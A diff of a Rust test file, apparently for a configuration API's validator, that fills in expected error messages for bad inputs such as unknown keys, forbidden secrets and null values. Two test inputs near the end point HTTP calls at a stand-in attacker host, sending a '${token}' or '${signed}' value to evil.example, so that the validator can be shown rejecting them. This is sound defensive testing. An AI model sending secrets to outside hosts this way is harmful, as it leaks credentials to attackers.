@@ -129,22 +129,37 @@ fn what_is_wrong_is_told_with_what_would_be_right() {
             json!({ "ack": "/x = 1" }),
             "invalid operator `=` at /ack (write `==` to compare)",
         ),
-        (json!({ "ack": "/x == KEY" }), "X"),
-        (json!({ "onn": "x" }), "X"),
-        (json!({ "query": "x" }), "X"),
+        (
+            json!({ "ack": "/x == KEY" }),
+            "`KEY` is not allowed over the API at /ack (PUT the value to /v1/secrets/ID, and bring it in with `let`: ${secret:ID})",
+        ),
+        (
+            json!({ "onn": "x" }),
+            "unknown key `onn` at /onn (did you mean `on`? the keys here are item, on, off, ack, fail, end, within, if, rate, capture, route)",
+        ),
+        (
+            json!({ "query": "x" }),
+            "unknown key `query`: a table is the long form at /query (an item that is a table stands under `item`: { item = { … } })",
+        ),
         (
             json!({ "max": 5 }),
             "`max` is not said for one key at /max (write it in `subscribe`)",
         ),
-        (json!({ "on": null }), "X"),
+        (
+            json!({ "on": null }),
+            r#"expected a text, { text = "…" }, { base64 = "…" }, { bytes = "…" } or { http = { url = "https://…" } }, found null at /on"#,
+        ),
         (
             json!({ "rate": "site" }),
             "`rate` is not allowed over the API at /rate (leave it out: the rate of `subscribe` holds)",
         ),
-        (json!({ "capture": { "other": "/x" } }), "X"),
+        (
+            json!({ "capture": { "other": "/x" } }),
+            "nothing of the settings is captured as `other` at /capture/other (`subscribe.capture` of the settings has `sub`)",
+        ),
         (
             json!({ "on": { "http": { "url": "https://evil.example/?${token}" } } }),
-            "X",
+            "https://evil.example must not be called: the settings do not call it at /on (service.allow_urls has the patterns of URLs that may be called besides); `https://api.example@evil.example/x` is no URL that can be called at /on/http/url (it holds credentials; write a header Authorization instead)",
         ),
         (
             json!({ "on": { "http": { "url": "https://evil.example", "method": "POST", "body": "${signed}" } } }),
